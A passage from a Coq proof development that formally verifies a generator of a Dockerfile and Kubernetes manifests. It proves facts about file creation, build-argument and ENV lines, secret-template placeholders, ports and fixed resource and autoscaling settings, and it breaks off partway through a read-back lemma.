    directory, under names of one component, can all be created. *)
Lemma prepared_creatable (m : fsmap) (P : path) (x : string) :
  P ≠ [] → x ≠ "k8s" →
  let prepared := make_dirs (P ++ ["k8s"]) (remove_tree P m) in
  fs_get prepared (parent (P ++ [x])) = Some Dir ∧ prepared !! (P ++ [x]) ≠ Some Dir
  ∧ fs_get prepared (parent ((P ++ ["k8s"]) ++ [x])) = Some Dir
  ∧ prepared !! ((P ++ ["k8s"]) ++ [x]) ≠ Some Dir.
Proof.
  intros HP Hx prepared. unfold parent. rewrite !removelast_last.
  rewrite !fs_get_stored by (done || apply snoc_stored). unfold prepared.
  rewrite !prepared_lookup;
    [|rewrite <- ?app_assoc; by apply prefix_app_r..|done].
  rewrite (decide_True (P:=P ≠ [] ∧ (P = P ∨ P = P ++ ["k8s"]))) by (split; [done|by left]).
  rewrite (decide_True (P:=P ++ ["k8s"] ≠ [] ∧ _)) by (split; [apply snoc_stored|by right]).
  rewrite !decide_False; [done|..].
  - intros [_ [E|E]].
    + apply (f_equal length) in E. rewrite !length_app in E. simpl in E. lia.
    + by apply snoc_ne in E.
  - intros [_ [E|E]].
    + by apply snoc_ne in E.
    + apply app_inv_head in E. congruence.
Qed.

(** Under a destination [P], the four files of a bundle whose manifest
    names are single components can be created one after the other. *)
Lemma bundle_creatable_below (app_name : string) (port node_port : jsval)
    (envs : list env) (output_dir : string) (wd : path) (m : fsmap) :
  let P := resolve wd output_dir in
  P ≠ [] →
  (∀ suffix, suffix ∈ [".yaml"; "-service.yaml"; "-hpa.yaml"] →
     path_component (app_name +:+ suffix) = true) →
  bundle_creatable wd (make_dirs (P ++ ["k8s"]) (remove_tree P m))
    (artifacts app_name port node_port envs output_dir).
Proof.
  intros P HP Hfiles.
  assert (resolve wd (dockerfile_path output_dir) = P ++ ["Dockerfile"]) as ED
    by (unfold dockerfile_path; by rewrite resolve_join).
  assert (∀ suffix, suffix ∈ [".yaml"; "-service.yaml"; "-hpa.yaml"] →
            resolve wd (k8s_path output_dir (app_name +:+ suffix))
            = (P ++ ["k8s"]) ++ [app_name +:+ suffix]) as EM.
  { intros suffix Hs. rewrite resolve_k8s_path by by apply Hfiles.
    by rewrite <- app_assoc. }
  assert (∀ suffix, suffix ∈ [".yaml"; "-service.yaml"; "-hpa.yaml"] →
            app_name +:+ suffix ≠ "k8s") as Hk8s.
  { intros suffix Hs E%(f_equal String.length). rewrite length_app_string in E.
    repeat (apply elem_of_cons in Hs as [->|Hs]); [..|by apply elem_of_nil in Hs];
      simpl in E; lia. }
  assert (Forall (λ w, resolve wd w.1 ≠ P ∧ resolve wd w.1 ≠ P ++ ["k8s"])
            (artifacts app_name port node_port envs output_dir)) as Hoff.
  { unfold artifacts, deployment_path, service_path, hpa_path.
    repeat apply Forall_cons_2; [..|done]; cbn [fst];
      rewrite ?ED, ?EM by (rewrite !elem_of_cons; tauto).
    - split; [apply snoc_ne|by apply snoc_ne_snoc].
    - split; [|apply snoc_ne]. rewrite <- app_assoc.
      intros E%(f_equal length). rewrite length_app in E. simpl in E. lia.
    - split; [|apply snoc_ne]. rewrite <- app_assoc.
      intros E%(f_equal length). rewrite length_app in E. simpl in E. lia.
    - split; [|apply snoc_ne]. rewrite <- app_assoc.
      intros E%(f_equal length). rewrite length_app in E. simpl in E. lia. }
  unfold bundle_creatable, artifacts, deployment_path, service_path, hpa_path.
  fold (artifacts app_name port node_port envs output_dir).
  repeat apply Forall_cons_2; [..|done]; cbv zeta; cbn [fst];
    rewrite ?ED, ?EM by (rewrite !elem_of_cons; tauto).
  - destruct (prepared_creatable m P "Dockerfile" HP) as (H1 & H2 & _); [done|].
    split; [apply snoc_stored|]. split; [done|]. split; [done|].
    unfold parent. rewrite removelast_last.
    eapply Forall_impl; [exact Hoff|]. by intros w [? ?].
  - destruct (prepared_creatable m P (app_name +:+ ".yaml") HP) as (_ & _ & H1 & H2);
      [apply Hk8s; rewrite !elem_of_cons; tauto|].
    split; [apply snoc_stored|]. split; [done|]. split; [done|].
    unfold parent. rewrite removelast_last.
    eapply Forall_impl; [exact Hoff|]. by intros w [? ?].
  - destruct (prepared_creatable m P (app_name +:+ "-service.yaml") HP)
      as (_ & _ & H1 & H2);
      [apply Hk8s; rewrite !elem_of_cons; tauto|].
    split; [apply snoc_stored|]. split; [done|]. split; [done|].
    unfold parent. rewrite removelast_last.
    eapply Forall_impl; [exact Hoff|]. by intros w [? ?].
  - destruct (prepared_creatable m P (app_name +:+ "-hpa.yaml") HP)
      as (_ & _ & H1 & H2);
      [apply Hk8s; rewrite !elem_of_cons; tauto|].
    split; [apply snoc_stored|]. split; [done|]. split; [done|].
    unfold parent. rewrite removelast_last.
    eapply Forall_impl; [exact Hoff|]. by intros w [? ?].
Qed.

End OddNames.

(** *** The lines of the build file and of the secret template *)

Section MoreTextFacts.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Lemma lines_nl (s : string) : lines (String nl s) = EmptyString :: lines s.
Proof. reflexivity. Qed.

(** The lines of a text that starts with complete lines. *)
Lemma lines_line (l rest : string) :
  single_line l = true →
  lines (l +:+ String nl rest) = l :: lines rest.
Proof.
  intros H. rewrite lines_app_single by done. rewrite lines_nl.
  unfold prepend. done.
Qed.

Lemma lines_entries {A} (g l : A → string) (xs : list A) (rest : string) :
  Forall (λ x, g x = l x +:+ String nl EmptyString ∧ single_line (l x) = true) xs →
  lines (join EmptyString (map g xs) +:+ rest) = map l xs ++ lines rest.
Proof.
  induction xs as [|x r IH]; [done|].
  intros [[Hg Hl] Hr]%Forall_cons. cbn [map].
  rewrite join_empty_cons, Hg, !sapp_assoc. 
  change (String nl EmptyString +:+ (join EmptyString (map g r) +:+ rest))
    with (String nl (join EmptyString (map g r) +:+ rest)).
  rewrite lines_line by done. by rewrite IH.
Qed.

Lemma glue_complete (xs l2 : list string) :
  l2 ≠ [] → glue (xs ++ [EmptyString]) l2 = xs ++ l2.
Proof.
  destruct l2 as [|h t]; [done|]. intros _. unfold glue.
  by rewrite removelast_last, last_last.
Qed.

Lemma lines_nonempty (s : string) : lines s ≠ [].
Proof. apply split_on_nonempty. Qed.

(** The lines of a text put after complete lines. *)
Lemma lines_after (xs : list string) (a b : string) :
  lines a = xs ++ [EmptyString] → lines (a +:+ b) = xs ++ lines b.
Proof.
  intros H. rewrite lines_app, H. apply glue_complete, lines_nonempty.
Qed.

Lemma all_chars_app (f : ascii → bool) (a b : string) :
  all_chars f (a +:+ b) = all_chars f a && all_chars f b.
Proof.
  induction a as [|x a IH]; [done|].
  rewrite sapp_cons. simpl. rewrite IH. by rewrite andb_assoc.
Qed.

Lemma identifier_free (sep : ascii) (s : string) :
  is_identifier_char sep = false → identifier s = true → free_of sep s = true.
Proof.
  intros Hsep [_ H]%andb_true_iff. by apply (all_chars_free is_identifier_char).
Qed.

Lemma identifier_single_line (s : string) :
  identifier s = true → single_line s = true.
Proof. by apply identifier_free. Qed.

Lemma identifier_head (s : string) :
  identifier s = true → ∃ c r, s = String c r ∧ is_identifier_char c = true.
Proof.
  destruct s as [|c r]; [done|]. intros [_ H]%andb_true_iff.
  simpl in H. apply andb_true_iff in H as [Hc _]. eauto.
Qed.

Lemma take_until_app (c : ascii) (a r : string) :
  free_of c a = true → take_until c (a +:+ String c r) = a.
Proof.
  induction a as [|x a IH].
  - intros _. rewrite sapp_nil_l. simpl. by rewrite Ascii.eqb_refl.
  - rewrite sapp_cons. simpl. intros [Hx Ha]%andb_true_iff.
    apply negb_true_iff in Hx. rewrite Hx. by rewrite IH.
Qed.

Lemma drop_until_app (c : ascii) (a r : string) :
  free_of c a = true → drop_until c (a +:+ String c r) = r.
Proof.
  induction a as [|x a IH].
  - intros _. rewrite sapp_nil_l. simpl. by rewrite Ascii.eqb_refl.
  - rewrite sapp_cons. simpl. intros [Hx Ha]%andb_true_iff.
    apply negb_true_iff in Hx. rewrite Hx. by rewrite IH.
Qed.

Lemma lstrip_identifier (s rest : string) :
  identifier s = true → lstrip (s +:+ rest) = s +:+ rest.
Proof.
  intros (c & r & -> & Hc)%identifier_head. rewrite sapp_cons. simpl.
  destruct (Ascii.eqb_spec c " ") as [->|]; [done|done].
Qed.

End MoreTextFacts.

Section BuildFileLines.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Lemma env_pair_single_line (n : string) :
  single_line n = true → single_line (env_pair n) = true.
Proof.
  intros H. unfold env_pair, single_line in *.
  rewrite !free_of_app, H. done.
Qed.

Lemma join_sep_cons (sep x y : string) (r : list string) :
  join sep (x :: y :: r) = x +:+ sep +:+ join sep (y :: r).
Proof. reflexivity. Qed.

(** The lines of the joined pairs of the ENV instruction, followed by a
    text whose first line is a blank and a backslash. *)
Lemma lines_env_pairs (n : string) (r : list string) (rest : string)
    (t : list string) :
  single_line n = true → Forall (λ m, single_line m = true) r →
  lines rest = " \" :: t →
  lines (join " \
    " (map env_pair (n :: r)) +:+ rest)
  = (env_pair n +:+ " \") :: map (λ m, "    " +:+ env_pair m +:+ " \") r ++ t.
Proof.
  intros Hn Hr Hrest. revert n Hn.
  induction r as [|m r IH]; intros n Hn.
  - cbn [map]. unfold join. cbn [concat].
    rewrite lines_app_single by by apply env_pair_single_line.
    rewrite Hrest. unfold prepend. done.
  - apply Forall_cons in Hr as [Hm Hr]. cbn [map].
    rewrite join_sep_cons, !sapp_assoc.
    rewrite lines_app_single by by apply env_pair_single_line.
    rewrite lines_app. change (map env_pair (m :: r)) with (env_pair m :: map env_pair r) in IH.
    cbn [map] in IH. rewrite (IH Hr m Hm).
    change (lines " \
    ") with [" \"; "    "].
    unfold glue, prepend. cbn [removelast List.last app map]. done.
Qed.

(** The lines of the build file: those of the build file for no
    variables, with one ARG line a variable before the blank line and
    [ARG PORT], and the lines of the ENV instruction. *)
Lemma dockerfile_lines (names : list string) :
  Forall (λ n, single_line n = true) names →
  let base := lines (Template.dockerfile []) in
  lines (Template.dockerfile names)
  = take 8 base ++ map arg_line names ++ [EmptyString; "ARG PORT"; EmptyString]
    ++ env_lines names ++ drop 12 base.
Proof.
  intros Hnames base. unfold Template.dockerfile.
  match goal with
  | |- lines (?a +:+ join EmptyString ?m +:+ ?b +:+ join ?sep ?m2 +:+ ?c) = _ =>
      set (A := a); set (B := b); set (C := c)
  end.
  assert (lines A = take 8 base ++ [EmptyString]) as EA by (vm_compute; reflexivity).
  assert (lines C = " \" :: drop 12 base) as EC by (vm_compute; reflexivity).
  rewrite (lines_after _ _ _ EA).
  rewrite (lines_entries _ arg_line).
  2:{ eapply Forall_impl; [exact Hnames|]. intros n Hn. split.
      - unfold arg_line. by rewrite sapp_assoc.
      - unfold arg_line. change (single_line n = true) in Hn.
        unfold single_line in *. by rewrite free_of_app, Hn. }
  f_equal. f_equal.
  rewrite lines_app. change (lines B) with [EmptyString; "ARG PORT"; EmptyString; "ENV "].
  destruct names as [|n r].
  - cbn [map]. unfold join. cbn [concat]. rewrite sapp_nil_l, EC.
    unfold glue, env_lines. cbn [removelast List.last app]. done.
  - apply Forall_cons in Hnames as [Hn Hr].
    change (λ n : string, n +:+ "=${" +:+ n +:+ "}") with env_pair.
    rewrite (lines_env_pairs n r C (drop 12 base)) by done.
    unfold glue, env_lines. cbn [removelast List.last app]. done.
Qed.
Lemma dockerfile_build_args (names : list string) :
  Forall (λ n, single_line n = true) names →
  Dockerfile.build_args (Template.dockerfile names) = names ++ ["PORT"].
Proof.
  intros Hnames. unfold Dockerfile.build_args.
  rewrite dockerfile_lines by done. cbv zeta.
  rewrite !omap_app.
  assert (omap (strip_prefix "ARG ") (take 8 (lines (Template.dockerfile []))) = [])
    as -> by (vm_compute; reflexivity).
  assert (omap (strip_prefix "ARG ") (drop 12 (lines (Template.dockerfile []))) = [])
    as -> by (vm_compute; reflexivity).
  assert (omap (strip_prefix "ARG ") (map arg_line names) = names) as ->.
  { clear. induction names as [|n r IH]; [done|].
    cbn [map omap list_omap]. change (strip_prefix "ARG " (arg_line n)) with (Some n).
    cbn [map omap list_omap] in IH. by rewrite IH. }
  assert (omap (strip_prefix "ARG ") (env_lines names) = []) as ->.
  { clear. destruct names as [|n r]; [done|]. unfold env_lines.
    cbn [omap list_omap].
    change (strip_prefix "ARG " ("ENV " +:+ env_pair n +:+ " \")) with (@None string).
    induction r as [|m r IH]; [done|]. cbn [map omap list_omap].
    change (strip_prefix "ARG " ("    " +:+ env_pair m +:+ " \")) with (@None string).
    exact IH. }
  cbn [omap list_omap]. change (strip_prefix "ARG " EmptyString) with (@None string).
  change (strip_prefix "ARG " "ARG PORT") with (Some "PORT").
  by rewrite !app_nil_l, !app_nil_r.
Qed.

End BuildFileLines.

Section EnvInstruction.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Lemma strip_suffix_app (suf x : string) :
  BuildFile.strip_suffix suf (x +:+ suf) = Some x.
Proof.
  induction x as [|c x IH].
  - rewrite sapp_nil_l.
    destruct suf; cbn [BuildFile.strip_suffix]; by rewrite bool_decide_eq_true_2.
  - rewrite sapp_cons. cbn [BuildFile.strip_suffix]. rewrite bool_decide_eq_false_2.
    + by rewrite IH.
    + intros E%(f_equal String.length). simpl in E.
      rewrite length_app_string in E. lia.
Qed.

Lemma env_pair_of_pair (pre n : string) :
  identifier n = true →
  pre = "ENV " ∨ pre = "    " →
  BuildFile.env_pair_of (pre +:+ env_pair n +:+ " \")
  = Some (n, "${" +:+ n +:+ "}").
Proof.
  intros Hn Hpre. unfold BuildFile.env_pair_of.
  assert (lstrip (default (default (pre +:+ env_pair n +:+ " \")
                     (strip_prefix "ENV " (pre +:+ env_pair n +:+ " \")))
            (BuildFile.strip_suffix " \"
               (default (pre +:+ env_pair n +:+ " \")
                  (strip_prefix "ENV " (pre +:+ env_pair n +:+ " \")))))
          = env_pair n) as ->.
  { destruct Hpre as [-> | ->].
    - change (strip_prefix "ENV " ("ENV " +:+ env_pair n +:+ " \"))
        with (Some (env_pair n +:+ " \")). cbn [from_option id].
      rewrite strip_suffix_app. cbn [from_option id]. unfold env_pair.
      by apply lstrip_identifier.
    - change (strip_prefix "ENV " ("    " +:+ env_pair n +:+ " \"))
        with (@None string). cbn [from_option id].
      rewrite <- sapp_assoc, strip_suffix_app. cbn [from_option id].
      change (lstrip ("    " +:+ env_pair n)) with (lstrip (env_pair n)).
      unfold env_pair. by apply lstrip_identifier. }
  rewrite bool_decide_eq_false_2.
  - unfold env_pair. change ("=${" +:+ n +:+ "}") with (String "=" ("${" +:+ n +:+ "}")).
    rewrite take_until_app, drop_until_app; [done|..];
      by apply identifier_free.
  - apply identifier_head in Hn as (c & r & -> & _). done.
Qed.

Lemma ends_with_continuation (x : string) : ends_with_char "\" (x +:+ " \") = true.
Proof. by rewrite ends_with_char_app. Qed.

Lemma instruction_env_lines (names : list string) (t : list string) :
  BuildFile.instruction (env_lines names ++ "    PORT=${PORT}" :: t)
  = env_lines names ++ ["    PORT=${PORT}"].
Proof.
  assert (∀ r : list string,
            BuildFile.instruction
              (map (λ m, "    " +:+ env_pair m +:+ " \") r ++ "    PORT=${PORT}" :: t)
            = map (λ m, "    " +:+ env_pair m +:+ " \") r ++ ["    PORT=${PORT}"]) as H.
  { induction r as [|m r IH]; [done|]. cbn [map app BuildFile.instruction].
    rewrite <- sapp_assoc, ends_with_continuation. by rewrite IH. }
  destruct names as [|n r]; [done|]. unfold env_lines.
  cbn [map app BuildFile.instruction].
  rewrite <- sapp_assoc, ends_with_continuation. by rewrite H.
Qed.

Lemma find_instruction_skip (kw : string) (xs rest : list string) :
  forallb (λ l, negb (starts_with kw l)) xs = true →
  BuildFile.find_instruction kw (xs ++ rest) = BuildFile.find_instruction kw rest.
Proof.
  induction xs as [|x xs IH]; [done|]. cbn [forallb].
  intros [Hx Hxs]%andb_true_iff. apply negb_true_iff in Hx.
  cbn [app BuildFile.find_instruction]. rewrite Hx. by apply IH.
Qed.

(** The ENV instruction exports every declared build argument under
    its own name, and PORT. *)
Lemma dockerfile_env_defaults (names : list string) :
  Forall (λ n, identifier n = true) names →
  BuildFile.env_defaults (Template.dockerfile names)
  = map (λ n, (n, "${" +:+ n +:+ "}")) names ++ [("PORT", "${PORT}")].
Proof.
  intros Hnames. unfold BuildFile.env_defaults.
  rewrite dockerfile_lines
    by (eapply Forall_impl; [exact Hnames|]; intros n; apply identifier_single_line).
  cbv zeta.
  rewrite find_instruction_skip by (vm_compute; reflexivity).
  rewrite find_instruction_skip.
  2:{ clear. induction names as [|n r IH]; [done|]. exact IH. }
  rewrite (find_instruction_skip _ [EmptyString; "ARG PORT"; EmptyString])
    by (vm_compute; reflexivity).
  assert (drop 12 (lines (Template.dockerfile []))
          = "    PORT=${PORT}" :: drop 13 (lines (Template.dockerfile []))) as ->
    by (vm_compute; reflexivity).
  assert (∀ l, BuildFile.find_instruction "ENV " (env_lines names ++ l)
               = BuildFile.instruction (env_lines names ++ l)) as ->.
  { intros l. by destruct names. }
  rewrite instruction_env_lines, omap_app.
  f_equal.
  destruct names as [|n r]; [done|]. apply Forall_cons in Hnames as [Hn Hr].
  unfold env_lines. cbn [map omap list_omap].
  rewrite env_pair_of_pair by (done || by left). cbn [option_map]. f_equal.
  induction r as [|m r IH]; [done|]. apply Forall_cons in Hr as [Hm Hr].
  cbn [map omap list_omap]. rewrite env_pair_of_pair by (done || by right).
  by rewrite IH.
Qed.

End EnvInstruction.

Section SecretTemplate.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Lemma secret_entry_line (var : string) :
  Template.secret_entry var = secret_line var +:+ String nl EmptyString.
Proof. unfold Template.secret_entry, secret_line, q. by rewrite !sapp_assoc. Qed.

Lemma secret_line_single (var : string) :
  single_line var = true → single_line (secret_line var) = true.
Proof.
  intros H. unfold secret_line, q, single_line in *.
  by rewrite !free_of_app, H.
Qed.

(** The lines of the secret template: the header, one line a variable,
    and the empty line after the last newline. *)
Lemma secret_lines (app_name : string) (var_names : list string) :
  single_line app_name = true →
  Forall (λ v, single_line v = true) var_names →
  lines (secret_text app_name var_names)
  = ["apiVersion: v1"; "kind: Secret"; "metadata:";
     "  name: " +:+ app_name +:+ "-secret"; "  namespace: ${NAMESPACE}";
     "type: Opaque"; "stringData:"]
    ++ map secret_line var_names ++ [EmptyString].
Proof.
  intros Happ Hvars. unfold secret_text, Template.secret_header.
  rewrite !sapp_assoc.
  rewrite lines_app, lines_app_single by done.
  rewrite lines_app.
  rewrite <- (sapp_nil_r (join EmptyString (map Template.secret_entry var_names))).
  rewrite (lines_entries _ secret_line).
  2:{ eapply Forall_impl; [exact Hvars|]. intros v Hv. split;
        [apply secret_entry_line|by apply secret_line_single]. }
  change (lines EmptyString) with [EmptyString].
  destruct (map secret_line var_names ++ [EmptyString]) as [|h t] eqn:E;
    [by destruct (map secret_line var_names)|].
  reflexivity.
Qed.

Lemma indent_blank (s : string) : Yaml.indent (String " " s) = S (Yaml.indent s).
Proof. reflexivity. Qed.

Lemma body_blank (s : string) : Yaml.body (String " " s) = Yaml.body s.
Proof. reflexivity. Qed.

Lemma indent_identifier (var rest : string) :
  identifier var = true → Yaml.indent (var +:+ rest) = 0.
Proof.
  intros (c & r & -> & Hc)%identifier_head. rewrite sapp_cons.
  cbn [Yaml.indent].
  destruct (Ascii.eqb_spec c " ") as [->|]; [by vm_compute in Hc|].
  destruct (Ascii.eqb_spec c "-") as [->|]; [by vm_compute in Hc|done].
Qed.

Lemma body_identifier (var rest : string) :
  identifier var = true → Yaml.body (var +:+ rest) = var +:+ rest.
Proof.
  intros (c & r & -> & Hc)%identifier_head. rewrite sapp_cons.
  cbn [Yaml.body].
  destruct (Ascii.eqb_spec c " ") as [->|]; [by vm_compute in Hc|].
  destruct (Ascii.eqb_spec c "-") as [->|]; [by vm_compute in Hc|done].
Qed.

Lemma indent_secret_line (var : string) :
  identifier var = true → Yaml.indent (secret_line var) = 2.
Proof.
  intros H. unfold secret_line.
  change ("  " +:+ var +:+ ": " +:+ q ("${" +:+ var +:+ "}"))
    with (String " " (String " " (var +:+ ": " +:+ q ("${" +:+ var +:+ "}")))).
  by rewrite !indent_blank, indent_identifier.
Qed.

Lemma body_secret_line (var : string) :
  identifier var = true →
  Yaml.body (secret_line var) = var +:+ ": " +:+ q ("${" +:+ var +:+ "}").
Proof.
  intros H. unfold secret_line.
  change ("  " +:+ var +:+ ": " +:+ q ("${" +:+ var +:+ "}"))
    with (String " " (String " " (var +:+ ": " +:+ q ("${" +:+ var +:+ "}")))).
  by rewrite !body_blank, body_identifier.
Qed.

Lemma key_secret_line (var : string) :
  identifier var = true → Yaml.key (secret_line var) = var.
Proof.
  intros H. unfold Yaml.key. rewrite body_secret_line by done.
  change (": " +:+ q ("${" +:+ var +:+ "}"))
    with (String ":" (" " +:+ q ("${" +:+ var +:+ "}"))).
  apply take_until_app. by apply identifier_free.
Qed.

Lemma value_secret_line (var : string) :
  identifier var = true → Yaml.value (secret_line var) = q ("${" +:+ var +:+ "}").
Proof.
  intros H. unfold Yaml.value. rewrite body_secret_line by done.
  change (": " +:+ q ("${" +:+ var +:+ "}"))
    with (String ":" (" " +:+ q ("${" +:+ var +:+ "}"))).
  rewrite drop_until_app by by apply identifier_free. done.
Qed.

Lemma block_secret_lines (var_names : list string) :
  Forall (λ v, identifier v = true) var_names →
  Yaml.block 0 (map secret_line var_names ++ [EmptyString])
  = map secret_line var_names.
Proof.
  induction var_names as [|v r IH]; [done|]. intros [Hv Hr]%Forall_cons.
  cbn [map app Yaml.block]. rewrite indent_secret_line by done.
  cbn [Nat.ltb Nat.leb]. by rewrite IH.
Qed.

Lemma filter_secret_lines (var_names : list string) :
  Forall (λ v, identifier v = true) var_names →
  List.filter (λ l, Yaml.indent l =? 2) (map secret_line var_names)
  = map secret_line var_names.
Proof.
  induction var_names as [|v r IH]; [done|]. intros [Hv Hr]%Forall_cons.
  cbn [map List.filter]. rewrite indent_secret_line by done.
  cbn [Nat.eqb]. by rewrite IH.
Qed.

Lemma find_secret_line (var : string) (var_names : list string) :
  Forall (λ v, identifier v = true) var_names → var ∈ var_names →
  ∃ b, Yaml.find_key 2 var (map secret_line var_names)
       = Some (q ("${" +:+ var +:+ "}"), b).
Proof.
  induction var_names as [|v r IH]; [by intros _ ?%elem_of_nil|].
  intros [Hv Hr]%Forall_cons Hin. cbn [map Yaml.find_key].
  rewrite indent_secret_line, key_secret_line by done. cbn [Nat.eqb andb].
  destruct (decide (v = var)) as [->|Hne].
  - rewrite bool_decide_eq_true_2 by done. rewrite value_secret_line by done.
    by eexists.
  - rewrite bool_decide_eq_false_2 by done. apply IH; [done|].
    apply elem_of_cons in Hin as [->|Hin]; done.
Qed.

Lemma keys_lines_cons (k : string) (ks ls : list string) :
  Yaml.keys_lines (k :: ks) ls
  = match Yaml.find_key (Yaml.indent (List.hd EmptyString ls)) k ls with
    | None => None
    | Some (_, b) => Yaml.keys_lines ks b
    end.
Proof. reflexivity. Qed.

Lemma keys_lines_nil (ls : list string) :
  Yaml.keys_lines [] ls
  = Some (map Yaml.key
            (List.filter (λ l, Yaml.indent l =? Yaml.indent (List.hd EmptyString ls)) ls)).
Proof. reflexivity. Qed.

Lemma get_lines_two (k1 k2 : string) (ls : list string) :
  Yaml.get_lines [k1; k2] ls
  = match Yaml.find_key (Yaml.indent (List.hd EmptyString ls)) k1 ls with
    | None => None
    | Some (_, b) =>
        match Yaml.find_key (Yaml.indent (List.hd EmptyString b)) k2 b with
        | None => None
        | Some (v, _) => Some v
        end
    end.
Proof.
  cbn [Yaml.get_lines]. destruct (Yaml.find_key _ k1 ls) as [[v b]|]; [|done].
  by destruct (Yaml.find_key _ k2 b) as [[v' b']|].
Qed.

(** The secret template has one entry a variable, in the order of
    [var_names], and each value is the placeholder of its variable. *)
Lemma secret_entries (app_name : string) (var_names : list string) :
  single_line app_name = true →
  Forall (λ v, identifier v = true) var_names →
  Yaml.keys_at ["stringData"] (secret_text app_name var_names) = Some var_names
  ∧ ∀ var, var ∈ var_names →
      Yaml.get ["stringData"; var] (secret_text app_name var_names)
      = Some (q ("${" +:+ var +:+ "}")).
Proof.
  intros Happ Hvars.
  assert (Forall (λ v, single_line v = true) var_names) as Hsingle
    by (eapply Forall_impl; [exact Hvars|]; intros v; apply identifier_single_line).
  unfold Yaml.keys_at, Yaml.get. rewrite secret_lines by done.
  rewrite keys_lines_cons.
  assert (∀ R, Yaml.find_key 0 "stringData"
            (["apiVersion: v1"; "kind: Secret"; "metadata:";
              "  name: " +:+ app_name +:+ "-secret"; "  namespace: ${NAMESPACE}";
              "type: Opaque"; "stringData:"] ++ R)
          = Some (EmptyString, Yaml.block 0 R)) as Hfind
    by (intros R; vm_compute; reflexivity).
  change (Yaml.indent (List.hd EmptyString
            (["apiVersion: v1"; "kind: Secret"; "metadata:";
              "  name: " +:+ app_name +:+ "-secret"; "  namespace: ${NAMESPACE}";
              "type: Opaque"; "stringData:"] ++ map secret_line var_names ++ [EmptyString])))
    with 0.
  rewrite Hfind, block_secret_lines by done.
  split.
  - rewrite keys_lines_nil.
    destruct var_names as [|v r]; [done|].
    cbn [map List.hd]. apply Forall_cons in Hvars as Hv. destruct Hv as [Hv _].
    rewrite indent_secret_line by done.
    change (secret_line v :: map secret_line r) with (map secret_line (v :: r)).
    rewrite filter_secret_lines by done.
    f_equal. rewrite map_map. clear -Hvars.
    induction Hvars as [|x l Hx Hl IH]; [done|].
    cbn [map]. by rewrite key_secret_line, IH.
  - intros var Hin. rewrite get_lines_two.
    change (Yaml.indent (List.hd EmptyString
            (["apiVersion: v1"; "kind: Secret"; "metadata:";
              "  name: " +:+ app_name +:+ "-secret"; "  namespace: ${NAMESPACE}";
              "type: Opaque"; "stringData:"] ++ map secret_line var_names ++ [EmptyString])))
      with 0.
    rewrite Hfind, block_secret_lines by done.
    destruct var_names as [|v r]; [by apply elem_of_nil in Hin|].
    cbn [map List.hd]. apply Forall_cons in Hvars as Hv. destruct Hv as [Hv _].
    rewrite indent_secret_line by done.
    change (secret_line v :: map secret_line r) with (map secret_line (v :: r)).
    destruct (find_secret_line var (v :: r) Hvars Hin) as [b ->]. done.
Qed.

End SecretTemplate.

Section SecretFile.
Import Text.

Lemma secret_header_fields (app_name : string) (var_names : list string) :
  single_line app_name = true →
  Forall (λ v, single_line v = true) var_names →
  let text := secret_text app_name var_names in
  Yaml.get ["kind"] text = Some "Secret"
  ∧ Yaml.get ["metadata"; "namespace"] text = Some "${NAMESPACE}"
  ∧ Yaml.get ["type"] text = Some "Opaque".
Proof.
  intros Happ Hvars. cbv zeta. unfold Yaml.get. rewrite secret_lines by done.
  generalize (map secret_line var_names ++ [EmptyString]). intros R.
  by vm_compute.
Qed.

End SecretFile.

(** *** The ports and the policy of the manifests *)

Section Ports.
Import Text.

Ltac manifest_lines :=
  repeat ((rewrite lines_app_single by assumption) || rewrite lines_app).

Variables (app_name : string) (port node_port : jsval).
Hypothesis Hname : single_line app_name = true.
Hypothesis Hport : single_line (py_str port) = true.
Hypothesis Hnode : single_line (py_str node_port) = true.

(** The ports of the workload and of the service. *)
Lemma manifest_ports :
  let dep := Template.deployment app_name port in
  let svc := Template.service app_name port node_port in
  Yaml.get ["spec"; "template"; "spec"; "containers"; "ports"; "containerPort"] dep
  = Some (py_str port)
  ∧ Yaml.get ["spec"; "template"; "spec"; "containers"; "ports"; "name"] dep
    = Some "http"
  ∧ Yaml.get ["spec"; "type"] svc = Some "NodePort"
  ∧ Yaml.get ["spec"; "ports"; "port"] svc = Some (py_str port)
  ∧ Yaml.get ["spec"; "ports"; "targetPort"] svc = Some (py_str port)
  ∧ Yaml.get ["spec"; "ports"; "nodePort"] svc = Some (py_str node_port).
Proof.
  cbv zeta. unfold Yaml.get, Template.deployment, Template.service.
  manifest_lines. by vm_compute.
Qed.

(** The fixed policy of the manifests: the namespace, the image
    placeholder, one replica, the resource bounds, and the bounds and the
    target of the autoscaler. *)
Lemma manifest_policy :
  let dep := Template.deployment app_name port in
  let svc := Template.service app_name port node_port in
  let hpa := Template.hpa app_name in
  let container := ["spec"; "template"; "spec"; "containers"] in
  Yaml.get ["metadata"; "namespace"] dep = Some "pnud-agvm"
  ∧ Yaml.get ["metadata"; "namespace"] svc = Some "pnud-agvm"
  ∧ Yaml.get ["metadata"; "namespace"] hpa = Some "pnud-agvm"
  ∧ Yaml.get (container ++ ["image"]) dep = Some "${FULL_IMAGE_NAME}"
  ∧ Yaml.get ["spec"; "replicas"] dep = Some "1"
  ∧ map (λ ks, Yaml.get (container ++ "resources" :: ks) dep)
      [["requests"; "cpu"]; ["requests"; "memory"]; ["limits"; "cpu"]; ["limits"; "memory"]]
    = [Some (q "200m"); Some (q "256Mi"); Some (q "1000m"); Some (q "1Gi")]
  ∧ Yaml.get ["spec"; "minReplicas"] hpa = Some "1"
  ∧ Yaml.get ["spec"; "maxReplicas"] hpa = Some "5"
  ∧ Yaml.get ["spec"; "metrics"; "resource"; "name"] hpa = Some "cpu"
  ∧ Yaml.get ["spec"; "metrics"; "resource"; "target"; "type"] hpa
    = Some "Utilization"
  ∧ Yaml.get ["spec"; "metrics"; "resource"; "target"; "averageUtilization"] hpa
    = Some "50".
Proof.
  cbv zeta. unfold Yaml.get, Template.deployment, Template.service, Template.hpa.
  manifest_lines. by vm_compute.
Qed.

End Ports.

Section ReadBack.
Import Os.

(** A request with a one-component name and named variables, on a free
    destination: it succeeds and each file holds the text of its
    template. *)
Lemma generate_reads (app_name : string) (port node_port : jsval)
    (envs : list env) (names : list string) (st : state) :
  path_component app_name = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  let dest := destination app_name in
  let run := generate (request app_name port node_port envs) st in
  run.1 = Ok (Success ("Fichiers générés dans " +:+ dest))
  ∧ read_file run.2 (dockerfile_path dest) = Some (Template.dockerfile names)
  ∧ read_file run.2 (deployment_path dest app_name)
